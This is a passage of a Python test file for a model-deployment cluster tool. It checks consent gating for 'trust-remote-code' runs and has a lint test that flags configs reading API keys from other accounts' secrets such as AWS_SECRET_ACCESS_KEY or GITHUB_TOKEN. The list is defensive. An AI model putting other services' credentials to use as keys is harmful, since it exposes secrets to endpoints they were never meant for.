    refused = run(words[0], path, *words[1:])
    assert (refused.code, node.contacts) == (2, 0), refused
    assert "not accepted yet: identity" in refused.err
    accepted = run("preflight", path, "--yes")
    assert "not accepted" not in accepted.err
    assert node.contacts


def test_a_bundled_playbook_that_runs_code_of_its_model_needs_consent_without_a_container(
    tmp_path: Path, up: Run, node: Node
) -> None:
    path = inventory(tmp_path, None, port=node.server_address[1], more="runtime: {kind: process}\n")
    refused = up(path)
    assert (refused.code, "trust-remote-code" in refused.err) == (2, True), refused
    assert up(path, "--yes").code == 1


@pytest.mark.parametrize("playbook", [None, "tiny-llama-cpu"])
def test_the_demo_needs_no_consent(playbook: str | None) -> None:
    spec = load.load(ROOT / "inventory/localhost.yaml", playbook)
    assert (consent.pending(spec), consent.unaccepted(spec)) == ([], [])


def test_a_token_of_another_account_is_not_an_api_key(tmp_path: Path, run: Run) -> None:
    names = ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY", "ANTHROPIC_API_KEY")
    paths = [inventory(tmp_path, None, name=name, more=f"api:\n  key: {{env: {name}}}\n") for name in names]
    found = json.loads(run("lint", *paths, "--json").out)["findings"]
    for path in paths:
        (told,) = [each for each in found if each["file"] == str(path) and each["severity"] == "error"]
        assert told["line"] == 5
        assert "sparkcluster key" in told["remedy"][0]
